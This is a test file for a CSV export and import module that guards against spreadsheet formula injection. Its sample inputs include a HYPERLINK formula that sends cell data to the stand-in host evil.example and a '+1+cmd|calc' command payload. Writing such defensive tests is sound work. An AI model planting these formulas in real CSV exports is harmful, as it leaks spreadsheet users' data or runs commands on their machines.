import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { safeCsvCell, unguardCsvCell } from './csv.ts';
import { formatCategoryCsv, parseCategoryCsv } from './modules/cases/category-csv.ts';
import { createTableWriter, openRows } from './modules/registry/registry-file.ts';
import { formatDivisionCsv, parseDivisionCsv } from './modules/territory/division-csv.ts';

const LINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")';

describe('CSV cells a spreadsheet would run', () => {
  it('prefixes text starting with = + - @, tab or carriage return with a quote, and leaves numbers alone', () => {
    for (const cell of [LINK, '+1+cmd|calc', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1']) {
      expect(safeCsvCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
      expect(unguardCsvCell(safeCsvCell(cell))).toBe(cell);
    }
    for (const cell of ['张三', '440605', 'a=b', '', "'quoted"]) expect(safeCsvCell(cell)).toBe(cell);
    expect(safeCsvCell(-113.25)).toBe('-113.25');
    expect(safeCsvCell('-113.25')).toBe('-113.25');
    expect(safeCsvCell('+8613800138000')).toBe('+8613800138000');
    expect(safeCsvCell(null)).toBe('');
  });

  it('exports registry rows with a formula-like name as text, and imports the file back as it was', async () => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (chunk: Buffer) => chunks.push(chunk));
    const writer = createTableWriter('csv', out, { sheetName: 'residents' });
    await writer.row(['姓名', '经度']);
    await writer.row([LINK, -113.25]);
    await writer.end();
    const file = Buffer.concat(chunks);
    const records = parse(file.toString('utf8'), { bom: true }) as string[][];
    expect(records[1]).toEqual([`'${LINK}`, '-113.25']);

    const upload = new PassThrough();
    upload.end(file);
    const { rows } = await openRows(upload);
    const read = [];
    for await (const row of rows) read.push(row.cells);
    expect(read).toEqual([
      ['姓名', '经度'],
      [LINK, '-113.25'],
    ]);
  });

  it('exports categories and divisions with formula-like names as text, and re-imports them unchanged', () => {
    const category = {
      kind: 'matter' as const,
      majorCode: '01',
      majorName: '@市容环境',
      code: '01001',
      name: LINK,
      limits: { handle: { amount: 2, unit: 'workingDays' as const } },
      defaultDepartment: null,
      onTheSpot: false,
      public: true,
    };
    const csv = formatCategoryCsv([category]);
    const records = parse(csv, { columns: true }) as Record<string, string>[];
    expect(records[0]).toMatchObject({ major_name: "'@市容环境", name: `'${LINK}` });
    const back = parseCategoryCsv(csv, 'zh-CN');
    expect(back.errors).toEqual([]);
    expect(back.rows[0]).toMatchObject({ majorName: '@市容环境', name: LINK });

    const divisions = formatDivisionCsv([
      { code: '44', name: '-广东省', level: 'province', parentCode: null },
    ]);
    expect(divisions).toContain("'-广东省");
    expect(parseDivisionCsv(divisions, 'zh-CN').rows[0]).toMatchObject({ name: '-广东省' });
  });
});
